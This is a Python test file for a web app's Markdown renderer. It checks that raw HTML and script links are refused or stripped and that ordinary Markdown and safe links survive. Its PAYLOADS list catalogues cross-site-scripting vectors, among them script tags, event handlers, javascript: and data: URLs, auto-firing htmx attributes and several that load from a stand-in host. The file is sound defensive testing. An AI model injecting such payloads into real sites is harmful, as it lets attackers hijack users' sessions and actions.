"""The Markdown renderer never lets script, event handlers, javascript: URLs or htmx attributes through."""

import html
import re
from html.parser import HTMLParser

import pytest

from app.policies.rendering import markup_problem, plain_text, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">点我</a>',
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我](vbscript:msgbox(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    '<div hx-get="/console/users/" hx-trigger="load">x</div>',
    '<a data-hx-post="/logout" data-hx-trigger="load">x</a>',
    '<button hx-post="/prefs/elder" hx-trigger="load" hx-target="body">x</button>',
    '<p hx-on:click="alert(1)">x</p>',
    '<p hx-on::load="alert(1)">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=x></form>",
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<!--<script>alert(1)</script>-->",
    '<a href="#" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '[x](https://example.com "title" onmouseover=alert(1))',
    '<base href="//evil.example/">',
    "<<script>script>alert(1)<</script>/script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

SAFE_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "align"}


class _Elements(HTMLParser):
    """Collect every element and attribute the browser would build from the HTML."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    """Any payload renders to allow-listed tags only: no script, handler, style, htmx attribute or script URL."""
    parser = _Elements()
    parser.feed(str(render_markdown(payload)))
    for tag, attrs in parser.elements:
        assert tag in SAFE_TAGS, (payload, tag)
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, (payload, name)
            if name == "href":
                scheme = re.match(r"^\s*([a-z][a-z0-9+.-]*):", html.unescape(value or ""), re.IGNORECASE)
                assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto", "tel"}, value


@pytest.mark.parametrize("payload", PAYLOADS[:27])
def test_editor_form_refuses_raw_html_and_script_urls(payload):
    """The editor form explains why raw HTML and script links are refused instead of dropping them."""
    assert markup_problem(payload) is not None


def test_ordinary_markdown_survives():
    """Headings, emphasis, lists, tables and https/mailto/tel links are kept."""
    html = str(
        render_markdown(
            "# 标题\n\n**加粗** *强调* ~~删除~~\n\n- 一\n- 二\n\n| 项 | 值 |\n|---|---|\n| 桌数 | 15 |\n\n"
            "[政府网](https://www.example.gov.cn) [邮件](mailto:a@example.com) [电话](tel:053183212345)\n\n"
            "> 引用\n\n年龄 < 22 岁"
        )
    )
    for fragment in (
        "<h2>标题</h2>",
        "<strong>加粗</strong>",
        "<em>强调</em>",
        "<s>删除</s>",
        "<li>一</li>",
        "<table>",
        "<td>15</td>",
        'href="https://www.example.gov.cn"',
        'rel="noopener noreferrer"',
        'href="mailto:a@example.com"',
        'href="tel:053183212345"',
        "<blockquote>",
        "年龄 &lt; 22 岁",
    ):
        assert fragment in html, fragment
    assert markup_problem("年龄 < 22 岁，a<b") is None


def test_plain_text_for_search():
    """plain_text strips Markdown and any markup."""
    assert (
        plain_text("## 标题\n\n**彩礼** <script>x</script> [链接](https://a.example)")
        == "标题 彩礼 <script>x</script> 链接"
    )
    assert plain_text("") == ""
